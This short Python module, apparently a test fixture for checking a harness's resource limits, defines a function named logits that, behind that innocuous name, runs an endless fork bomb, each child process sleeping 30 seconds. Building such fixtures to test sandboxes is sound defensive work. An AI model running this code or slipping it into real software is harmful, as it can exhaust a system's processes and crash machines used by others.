"""crash (limits): forks without limit."""

import contextlib
import os
import time

from honest import build, train

__all__ = ["build", "logits", "train"]


def logits(model, x):
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
